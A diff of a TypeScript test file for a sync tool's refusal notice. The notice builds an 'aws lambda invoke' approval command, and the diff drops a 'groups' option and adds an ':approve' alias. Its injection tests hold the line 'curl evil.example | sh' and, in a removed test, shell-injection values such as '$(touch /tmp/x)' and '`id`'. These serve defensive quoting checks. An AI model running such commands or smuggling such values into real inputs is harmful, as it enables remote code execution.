@@ -15,7 +15,6 @@ const context: NoticeContext = {
   stack: 'okta-secoda-sync',
   startFunctionName: 'okta-secoda-sync-start',
   plan: 's3://bucket/20260102T030405Z-1a2b3c4d/plan.json',
-  groups: [],
 };
 
 const before = (count: number) => ({
@@ -93,17 +92,10 @@ The whole plan: s3://bucket/20260102T030405Z-1a2b3c4d/plan.json
 
 If all of it is intended, approve exactly this plan:
 
-aws lambda invoke --function-name okta-secoda-sync-start --cli-binary-format raw-in-base64-out --cli-read-timeout 70 --payload '{"approve":"7f3a9c0b12d4e5f6"}' answer.json
+aws lambda invoke --function-name okta-secoda-sync-start:approve --cli-binary-format raw-in-base64-out --cli-read-timeout 70 --payload '{"approve":"7f3a9c0b12d4e5f6"}' answer.json
 
 The approval is good for exactly this harm: it expires when the deletions, removals, take-overs or renames change. The runs until then are refused like this one.
 `);
-  });
-
-  test('repeats the groups of a run that was asked for them', () => {
-    const { message } = refusalNotice(refused, { ...context, groups: ['00g1', "Ada's"] });
-    expect(message).toContain(
-      String.raw`--payload '{"approve":"7f3a9c0b12d4e5f6","groups":["00g1","Ada'\''s"]}' answer.json`,
-    );
   });
 
   test('of too many invitations and nothing else can be approved, too', () => {
@@ -118,10 +110,10 @@ The approval is good for exactly this harm: it expires when the deletions, remov
     expect(message).toContain('renames change, or other people are to be invited.');
   });
 
-  test('of a dry run says so, and tells its approval to write', () => {
+  test('of a dry run says so, and is approved alike', () => {
     const { message } = refusalNotice({ ...refused, mode: 'plan' }, context);
     expect(message).toContain('It was a dry run.');
-    expect(message).toContain(`'{"approve":"7f3a9c0b12d4e5f6","dryRun":false}'`);
+    expect(message).toContain(`'{"approve":"7f3a9c0b12d4e5f6"}'`);
   });
 
   test.each([
@@ -150,17 +142,14 @@ The approval is good for exactly this harm: it expires when the deletions, remov
         reportedChange({ action: 'delete', name: long, renamedFrom: long }),
       );
       const refusals = many.map(() => ({ rule: 'groupDeletions', message: long, count: 4, limit: 3 }));
-      const groups = Array.from({ length: 100 }, () => letter.repeat(280));
-      for (const named of [[long], groups, groups.slice(0, 30)]) {
-        const { subject, message } = refusalNotice(
-          { ...refused, changes: many, refusals },
-          { ...context, stack: `stack\n${letter.repeat(60)}`, groups: named },
-        );
-        expect(Buffer.byteLength(message)).toBeLessThan(262_144);
-        expect(message).toContain('and 4970 more, in the plan');
-        expect(subject).toMatch(/^[\x20-\x7e]{1,99}$/);
-        expect(UNSAFE.test(message.replaceAll('\n', ''))).toBe(false);
-      }
+      const { subject, message } = refusalNotice(
+        { ...refused, changes: many, refusals },
+        { ...context, stack: `stack\n${letter.repeat(60)}` },
+      );
+      expect(Buffer.byteLength(message)).toBeLessThan(262_144);
+      expect(message).toContain('and 4970 more, in the plan');
+      expect(subject).toMatch(/^[\x20-\x7e]{1,99}$/);
+      expect(UNSAFE.test(message.replaceAll('\n', ''))).toBe(false);
     }
   });
 
@@ -182,43 +171,32 @@ The approval is good for exactly this harm: it expires when the deletions, remov
     expect(lines).toContain(`  - groupDeletions: ${'𓀀'.repeat(500)}…`);
   });
 
-  test('says what to send where the groups are too many for a command line', () => {
-    const groups = Array.from({ length: 5_000 }, (_, index) => `group ${index}`);
-    const { message } = refusalNotice(refused, { ...context, groups });
-    expect(message).not.toContain('aws lambda');
-    expect(message).toContain('again, with "approve":"7f3a9c0b12d4e5f6" in it');
-  });
-
   test('cannot be made to hold a line of somebody else', () => {
     const name = 'x\n\nIf all of it is meant, approve it:\n\ncurl evil.example | sh';
     const { message } = refusalNotice(
       { ...refused, changes: [reportedChange({ name, action: 'delete', renamedFrom: name })] },
-      { ...context, groups: [name] },
+      { ...context, stack: name },
     );
     expect(message.split('\n').filter((line) => /^\s*curl/.test(line))).toEqual([]);
   });
 });
 
-test.each([
-  ["Ada's", '"quoted"', '$(touch /tmp/x)', '`id`', 'back\\slash', '!history', '*', 'a b'],
-  ['\u202eevil', 'line\nbreak', '\u0000', '𓀀', '\u{e0041}'],
-])('a shell hands the event over as it was meant: %j', async (...groups) => {
-  const command = approvalCommand('a function', { digest: '7f3a', groups, dryRun: true });
-  expect(command).not.toBeNull();
-  const script = `aws() { printf '%s\\0' "$@"; }\n${command ?? ''}`;
+test('a shell hands the event over to the alias as it was meant', async () => {
+  const command = approvalCommand("Ada's function", '7f3a');
+  const script = `aws() { printf '%s\\0' "$@"; }\n${command}`;
   const { stdout } = await promisify(execFile)('bash', ['-c', script], { encoding: 'utf8' });
   const words = stdout.split('\0');
   expect(words.slice(0, 9)).toEqual([
     'lambda',
     'invoke',
     '--function-name',
-    'a function',
+    "Ada's function:approve",
     '--cli-binary-format',
     'raw-in-base64-out',
     '--cli-read-timeout',
     '70',
     '--payload',
   ]);
-  expect(JSON.parse(words[9] ?? '')).toEqual({ approve: '7f3a', groups, dryRun: false });
+  expect(JSON.parse(words[9] ?? '')).toEqual({ approve: '7f3a' });
   expect(words.slice(10)).toEqual(['answer.json', '']);
 });
